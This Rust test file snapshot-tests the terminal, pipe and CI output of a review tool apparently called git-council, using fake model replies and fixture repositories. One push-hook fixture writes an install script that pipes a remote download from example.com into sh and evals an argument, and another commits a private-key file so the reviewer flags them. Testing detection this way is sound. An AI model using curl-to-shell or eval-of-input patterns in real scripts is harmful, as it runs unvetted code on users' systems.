//! What people see, as they see it: whole runs at a terminal of 80 × 24 and of 120 columns, in a pipe, and in CI. Read the
//! snapshots as their readers would, in ten seconds.

use std::fmt::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};

use council_fake_models::{FakeModels, Reply, Rule};
use serde_json::json;

use crate::harness::{PRIVATE_KEY, Repo, Run};
use crate::hook::{CONFLICT, Desk};
use crate::models::{KEY, finding};
use crate::programs::{answer, with_judge};

/// Where somebody reads what the program writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Place {
    Terminal { columns: u32 },
    Pipe,
    Ci,
}

const PLACES: [(&str, Place); 4] = [
    ("80 x 24", Place::Terminal { columns: 80 }),
    ("120 columns", Place::Terminal { columns: 120 }),
    ("piped", Place::Pipe),
    ("in CI", Place::Ci),
];

/// Spawns a program at a terminal of its own and ends as it does.
const PTY: &str =
    "import os, pty, sys; sys.exit(os.waitstatus_to_exitcode(pty.spawn(sys.argv[1:])))";

/// Runs a command at a place. What it writes to both outputs comes in the order in which a reader sees it.
pub(crate) fn read_at(place: Place, command: &Command) -> String {
    let run = Run::of(command_at(place, command).output().unwrap());
    let text = (run.stdout + &run.stderr).replace('\r', "");
    format!("{text}exit code {}\n", run.code)
}

/// The same command, not yet started.
pub(crate) fn command_at(place: Place, command: &Command) -> Command {
    let mut run = match place {
        Place::Terminal { columns } => {
            let mut run = Command::new("python3");
            run.args(["-c", PTY, "sh", "-c"]);
            run.arg(format!("stty rows 24 cols {columns} && exec \"$@\""));
            run
        }
        Place::Pipe | Place::Ci => {
            let mut run = Command::new("sh");
            run.args(["-c", "exec \"$@\" 2>&1"]);
            run
        }
    };
    run.arg("sh").arg(command.get_program());
    run.args(command.get_args()).env_clear();
    for (name, value) in command.get_envs() {
        run.env(name, value.unwrap());
    }
    // The pager would hide what is below the first screen; without it a terminal scrolls.
    run.envs([("TERM", "xterm"), ("NO_COLOR", "1"), ("PAGER", "cat")]);
    if place == Place::Ci {
        run.env("CI", "true");
    }
    run.current_dir(command.get_current_dir().unwrap_or(Path::new("/")));
    run.stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    run
}

/// A review, or another command, at every place.
fn captures(repo: &Repo, args: &[&str]) -> String {
    captures_with(repo, &[], args)
}

/// The same with variables.
fn captures_with(repo: &Repo, vars: &[(&str, &str)], args: &[&str]) -> String {
    let mut command = repo.program(&repo.path());
    command.args(args).envs(vars.iter().copied());
    let mut out = String::new();
    for (name, place) in PLACES {
        let _ = writeln!(out, "---- {name}\n{}", read_at(place, &command));
    }
    out
}

/// What differs from run to run.
const FILTERS: [(&str, &str); 8] = [
    // The rules find what looks like a key in a snapshot, too.
    (r"-----BEGIN RSA [A-Z ]+-----", "[first line of a key]"),
    (r"\b\d{4}-\d\d-\d\d\b", "[day]"),
    (r"\b\d+ ms\b", "[time]"),
    (r"\b\d+(\.\d+)? s\b", "[time]"),
    (r"council-\d{8}", "council-[date]"),
    (
        r"\b\d+(\.\d+)?k? tokens( and \d+(\.\d+)?k? cached)?",
        "[tokens]",
    ),
    (r"\b[0-9a-f]{40}\b", "[commit]"),
    (r"/tmp/[^ \n]*/(home|work)", "[$1]"),
];

pub(crate) fn check(name: &str, text: &str) {
    insta::with_settings!({filters => FILTERS, omit_expression => true}, {
        insta::assert_snapshot!(name, text);
    });
}

const FRESH: [&str; 3] = ["review", "HEAD", "--fresh"];

/// A judge that takes its time. What the live view shows meanwhile depends on how long.
const MODELS: [&str; 4] = ["--agents", "helper", "--config", "output.progress=off"];

fn with(path: &str, content: &str) -> Repo {
    let repo = Repo::with_base();
    repo.write(path, content);
    repo.commit("Change");
    repo
}

#[test]
fn a_clean_change() {
    let repo = with("README.md", "# A project\n\nIt adds two numbers.\n");
    check("clean", &captures(&repo, &FRESH));
}

#[test]
fn one_finding() {
    let repo = with("deploy.key", PRIVATE_KEY);
    check("one_finding", &captures(&repo, &FRESH));
}

#[test]
fn twenty_findings() {
    let finding = |at: usize| {
        let (severity, fault) = match at % 5 {
            0 => ("critical", "can be divided by zero"),
            1 | 2 => ("significant", "is never checked against its limit"),
            _ => ("minor", "says nothing in its name"),
        };
        format!(
            r#"{{"severity": "{severity}", "category": "naming", "description": "Value {at} {fault}.",
             "location": {{"path": "src/values.rs", "line": {}}}, "quote": "pub const VALUE_{at}: u32 = {at};",
             "why": "Whoever reads it believes something else.", "fix": "Say what it is."}}"#,
            at * 10
        )
    };
    let findings: Vec<String> = (1..=20).map(finding).collect();
    let repo = with_judge(&answer("FAIL", &findings.join(", ")), "");
    // Findings of one kind on neighbouring lines would be one.
    let line = |at| match at % 10 {
        0 => format!("pub const VALUE_{0}: u32 = {0};\n", at / 10),
        _ => "\n".to_owned(),
    };
    let lines: Vec<String> = (1..=200).map(line).collect();
    repo.write("src/values.rs", lines.concat());
    repo.commit("Values");
    check(
        "twenty_findings",
        &captures(&repo, &[&FRESH[..], &MODELS].concat()),
    );
}

/// Three models of whom one holds a critical finding and another refutes it with what stands in the file.
fn split_models() -> FakeModels {
    const SECOND: &str = "`round` is 2";
    let refute = |id: &str| {
        let evidence = json!({"path": "src/more.rs", "line": 1, "quote": "/// One more."});
        let response = json!([{"to": id, "stance": "disagreed", "evidence": evidence,
            "reasoning": "The line above says what it is."}]);
        Rule::on(Reply::vote("PASS").with("responses", response))
            .model("fake-gemini")
            .last(&format!("\"id\": \"{id}\""))
    };
    let holds = Rule::on(Reply::vote("FAIL")).model("fake-anthropic");
    let raises = Rule::on(Reply::finding("FAIL", finding())).model("fake-anthropic");
    FakeModels::start([refute("A1"), refute("B1"), holds.last(SECOND), raises]).unwrap()
}

#[test]
fn a_split_debate() {
    let models = split_models();
    let repo = crate::models::repo(&models, "");
    let args = [
        &FRESH[..],
        &["--deep", "--debate", "--config", "output.progress=off"],
    ]
    .concat();
    // What is sent to whom is told before the first run.
    repo.council_with(&[KEY], &args)
        .prints("disputed")
        .prints("`git council show F1` has both sides");
    repo.council(["show", "F1"])
        .ends(0)
        .prints("held by ")
        .prints("The line above says what it is.");
    let text = captures_with(&repo, &[KEY], &args);
    assert!(text.contains("disputed"), "{text}");
    check("split_debate", &text);
}

#[test]
fn the_demo() {
    check("demo", &captures(&Repo::home(), &["demo", "--at-once"]));
}

#[test]
fn no_verdict() {
    let repo = with("src/more.rs", "/// One more.\npub const MORE: u32 = 1;\n");
    let script = "cat > /dev/null; echo no licence >&2; exit 3";
    let config =
        format!("[agents.helper]\ndriver = 'command'\ncommand = ['sh', '-c', '{script}']\n");
    repo.write_home(".config/git-council/config.toml", &config);
    check(
        "inconclusive",
        &captures(&repo, &[&FRESH[..], &MODELS].concat()),
    );
}

#[test]
fn a_finding_that_was_dismissed() {
    let repo = with("notes.md", CONFLICT);
    repo.council(["review", "HEAD"]).ends(1);
    repo.council([
        "dismiss",
        "F1",
        "--because",
        "it shows a conflict on purpose",
        "--as",
        "false-positive",
    ])
    .ends(0);
    check("dismissed", &captures(&repo, &FRESH));
}

#[test]
fn a_change_that_is_recognised() {
    let repo = with("notes.md", CONFLICT);
    repo.council(["review", "HEAD"]).ends(1);
    check("recognised", &captures(&repo, &["review", "HEAD"]));
}

#[test]
fn a_push() {
    let desk = Desk::new().installed();
    desk.repo.write("more.md", CONFLICT);
    desk.repo.write(
        "install.sh",
        "#!/bin/sh\ncurl http://example.com/a.sh | sh\neval \"$1\"\n",
    );
    desk.conflict();
    desk.gate();
    let bin = Path::new(env!("CARGO_BIN_EXE_git-council"))
        .parent()
        .unwrap();
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let mut push = desk
        .repo
        .git_command(&["push", "--quiet", "origin", "HEAD:topic"]);
    push.env("PATH", path);
    let mut out = String::new();
    for (name, place) in PLACES {
        let text = read_at(place, &push);
        let of_git = |line: &&str| line.contains("exit code") || line.contains("error: failed");
        let own = text.lines().filter(|line| !of_git(line));
        assert!(own.count() <= 5, "a hook has five lines: {text}");
        let _ = writeln!(out, "---- {name}\n{text}");
    }
    check("push", &out);
}

/// The block of a page's Markdown behind some words, without its indentation or fence.
fn block_after<'a>(page: &'a str, words: &str, opening: &str, closing: &str) -> &'a str {
    let (_, rest) = page.split_once(words).expect(words);
    let (_, rest) = rest.split_once(opening).expect(opening);
    rest.split_once(closing).expect(closing).0
}

#[test]
fn the_page_of_procedures_shows_what_is_printed() {
    let page = include_str!("../../docs/procedures.md");
    let repo = Repo::with_base();
    let code = block_after(page, "printed by the program", "```python\n", "```");
    repo.write("a.py", code);
    repo.commit("add a file");
    let told = repo.council(["review", "HEAD", "--quick"]).ends(0).stdout;
    let shown = block_after(page, "## Quick", "--quick\n", "\n## ");
    for line in shown
        .lines()
        .map(str::trim)
        .filter(|line| !["", "…"].contains(line))
    {
        // How long a run takes is another matter.
        let timed = line
            .rsplit_once(" · ")
            .filter(|(_, time)| time.ends_with(" ms"));
        let line = timed.map_or(line, |(before, _)| before);
        assert!(told.contains(line), "{line:?} is not in\n{told}");
    }
}
